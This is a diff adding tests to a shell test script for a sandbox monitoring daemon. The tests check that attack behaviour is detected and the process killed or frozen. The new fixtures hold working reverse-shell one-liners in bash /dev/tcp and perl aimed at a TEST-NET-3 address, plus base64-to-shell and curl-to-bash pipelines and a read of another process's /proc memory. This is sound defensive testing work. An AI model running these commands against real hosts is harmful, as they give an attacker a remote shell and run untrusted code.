@@ -7,7 +7,10 @@
 # a step reaching another step's sleep is signal.beyond-step (frozen); LD_PRELOAD on an exec is
 # exec.loader-injection (frozen) with its value cut at 63 bytes; a program run from /tmp is
 # exec.drift (frozen), from a memfd or a deleted file exec.drift (killed); a shell whose stdio is
-# an accepted socket, and a shell right after a refused connect, are net.reverse-shell (killed).
+# an accepted socket, and a shell right after a refused connect, are net.reverse-shell (killed);
+# so are a /dev/tcp -c string, a shell's own connect and a perl one-liner; base64 -d | sh is
+# exec.pipe-to-shell (frozen); another process's /proc/N/mem is killed; an OOM kill is
+# proc.oom-kill and one resource.oom-kill.
 . "$(dirname "$0")/../lib.sh"
 fb_setup
 start_daemon --config "$FB_CONF"
@@ -249,6 +252,130 @@ wait_verdict ps8 "net.reverse-shell critical kill" || fail "a shell after a refu
 killed ps8 || fail "ps8 is not killed"
 ok "a shell right after a refused connect: net.reverse-shell critical, killed"
 check "destroy ps8" "$FB" destroy ps8
+# 9. Reverse shells the egress hook stops before anything is exec'd after the connect: the
+# shell's -c string (/dev/tcp to a literal host), a shell's own connect (the host in a variable,
+# so only the connect's exe tells), a perl one-liner. Each killed. 203.0.113.0/24 is TEST-NET-3:
+# the sandbox has no route there, and nothing leaves the machine.
+cat >"$T/rsh3.py" <<'PY'
+import os, subprocess, sys
+os.environ["H"] = "203.0.113.7"
+code = {
+    "devtcp": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
+    "connect": ["bash", "-c", "sleep 0.2; exec 3<>/dev/tcp/$H/4444; sleep 5"],
+    "perl": ["perl", "-e", 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); '
+             'connect(S, sockaddr_in(4444, inet_aton("203.0.113.7"))); '
+             'open(STDIN, ">&S"); open(STDOUT, ">&S"); sleep 5; exec("/bin/sh -i");'],
+}[sys.argv[1]]
+subprocess.run(code)
+PY
+rsh() { # rsh NAME CASE STEP
+	create_sandbox "$1" "$POLICY"
+	copy_in "$1" "$T/rsh3.py"
+	"$FB" exec "$1" --tool attack --step "$3" -- python3 /workspace/rsh3.py "$2" >/dev/null 2>&1 &
+	wait_verdict "$1" "net.reverse-shell critical kill" || fail "$2: not net.reverse-shell"
+	killed "$1" || fail "$1 is not killed"
+}
+rsh ps10 devtcp 90
+ok "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1': net.reverse-shell critical, killed"
+check "destroy ps10" "$FB" destroy ps10
+rsh ps11 connect 91
+events ps11 | python3 -c '
+import json, sys
+c = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "net.connect"]
+c = [e for e in c if e["fields"]["dst"] == "203.0.113.7"]
+assert c and c[0]["step"] == 91 and c[0]["fields"]["exe"] == "bash" and c[0]["fields"]["port"] == 4444, c' ||
+	fail "the shell's own connect with its exe"
+ok "a shell's own connect to \$H (203.0.113.7): net.connect with exe bash, net.reverse-shell, killed"
+check "destroy ps11" "$FB" destroy ps11
+rsh ps12 perl 92
+ok "a perl socket+connect+exec /bin/sh one-liner: net.reverse-shell critical, killed"
+check "destroy ps12" "$FB" destroy ps12
+
+# 10. Code decoded into a shell: echo ... | base64 -d | sh. The pipe joining them is recorded on
+# both execs (stdout_pipe of base64, stdin_pipe of sh).
+cat >"$T/pipe.py" <<'PY'
+import subprocess
+subprocess.run(["sh", "-c", "echo ZWNobyBoaTsgc2xlZXAgNQo= | base64 -d | sh"])
+PY
+create_sandbox ps13 "$POLICY"
+copy_in ps13 "$T/pipe.py"
+"$FB" exec ps13 --tool attack --step 93 -- python3 /workspace/pipe.py >/dev/null 2>&1 &
+wait_verdict ps13 "exec.pipe-to-shell high freeze" || fail "base64 -d | sh is not exec.pipe-to-shell"
+wait_cgroup ps13 frozen 1 || fail "ps13 is not frozen"
+events ps13 | python3 -c '
+import json, sys
+x = [json.loads(l) for l in sys.stdin]
+x = [e for e in x if e["kind"] == "proc.exec" and e["step"] == 93]
+b = [e["fields"] for e in x if e["fields"]["argv"] == ["base64", "-d"]]
+s = [e["fields"] for e in x if e["fields"]["argv"] == ["sh"]]
+assert b and s and b[0]["stdout_pipe"] == s[0]["stdin_pipe"] > 0, (b, s)
+assert "stdin_pipe" not in b[0] or b[0]["stdin_pipe"] != b[0]["stdout_pipe"], b' ||
+	fail "the pipe joining base64 -d and sh"
+ok "echo ... | base64 -d | sh: the pipe's inode on both execs, exec.pipe-to-shell high, frozen"
+check "destroy ps13" "$FB" destroy ps13
+# And downloaded: curl from a server on the sandbox's own loopback into bash.
+cat >"$T/curl.py" <<'PY'
+import functools, http.server, subprocess, threading
+open("/workspace/i.sh", "w").write("sleep 5\n")
+h = functools.partial(http.server.SimpleHTTPRequestHandler, directory="/workspace")
+srv = http.server.HTTPServer(("127.0.0.1", 8767), h)
+threading.Thread(target=srv.serve_forever, daemon=True).start()
+subprocess.run(["sh", "-c", "curl -s http://127.0.0.1:8767/i.sh | bash"])
+PY
+create_sandbox ps16 "$POLICY"
+copy_in ps16 "$T/curl.py"
+"$FB" exec ps16 --tool attack --step 96 -- python3 /workspace/curl.py >/dev/null 2>&1 &
+wait_verdict ps16 "exec.pipe-to-shell high freeze" || fail "curl | bash is not exec.pipe-to-shell"
+wait_cgroup ps16 frozen 1 || fail "ps16 is not frozen"
+events ps16 | python3 -c '
+import json, sys
+v = [json.loads(l) for l in sys.stdin if json.loads(l)["kind"] == "verdict"]
+assert [e["fields"]["reason"] for e in v] == ["bash runs code piped from curl (downloaded)"], v' ||
+	fail "curl | bash: one verdict, downloaded"
+ok "curl from loopback | bash: exec.pipe-to-shell high (downloaded), the only verdict, frozen"
+check "destroy ps16" "$FB" destroy ps16
+
+# 11. Another process's memory opened: critical, killed.
+cat >"$T/mem.py" <<'PY'
+import subprocess, time
+p = subprocess.Popen(["sleep", "30"])
+time.sleep(0.2)
+open("/proc/%d/mem" % p.pid, "rb").close()
+time.sleep(5)
+PY
+create_sandbox ps14 "$POLICY"
+copy_in ps14 "$T/mem.py"
+"$FB" exec ps14 --tool attack --step 94 -- python3 /workspace/mem.py >/dev/null 2>&1 &
+wait_verdict ps14 "file.sensitive-read critical kill" || fail "/proc/N/mem is not critical"
+killed ps14 || fail "ps14 is not killed"
+ok "another process's /proc/N/mem opened: file.sensitive-read critical, killed"
+check "destroy ps14" "$FB" destroy ps14
+
+# 12. A step allocating past the sandbox's 128 MiB: the OOM killer's victim is proc.oom-kill on
+# its step, and resource.oom-kill is one verdict (the v1 memory controller here counts it only in
+# the step's own memcg; where the sandbox's counter sees it too, it is the same verdict).
+cat >"$T/oom.py" <<'PY'
+b = []
+for i in range(1024):
+    b.append(b"x" * (1 << 20))
+PY
+create_sandbox ps15 "$POLICY"
+copy_in ps15 "$T/oom.py"
+"$FB" exec ps15 --tool attack --step 95 -- python3 /workspace/oom.py >/dev/null 2>&1
+assert_eq "$?" "137" "the balloon was killed by SIGKILL"
+wait_verdict ps15 "resource.oom-kill medium alert" || fail "the OOM kill is not resource.oom-kill"
+sleep 2 # a cgroup.stats sample or two: the counter, where it moves, adds no verdict
+events ps15 | python3 -c '
+import json, sys
+ev = [json.loads(l) for l in sys.stdin]
+o = [e for e in ev if e["kind"] == "proc.oom-kill"]
+assert len(o) == 1 and o[0]["step"] == 95 and o[0]["tool"] == "attack", o
+assert o[0]["comm"].startswith("python3") and o[0]["fields"]["trigger_pid"] > 0, o
+v = [e for e in ev if e["kind"] == "verdict" and e["fields"]["rule"] == "resource.oom-kill"]
+assert len(v) == 1 and v[0]["step"] == 95, v' || fail "proc.oom-kill on step 95 and one verdict"
+ok "a balloon past 128 MiB: proc.oom-kill on step 95 (victim python3), one resource.oom-kill"
+check "destroy ps15" "$FB" destroy ps15
+
 # The tool calls left in the background end with their sandboxes (the daemon is a job too).
 calls() { jobs -pr | grep -vx "$DAEMON_PID"; }
 for _ in $(seq 100); do [ -z "$(calls)" ] && break; sleep 0.05; done
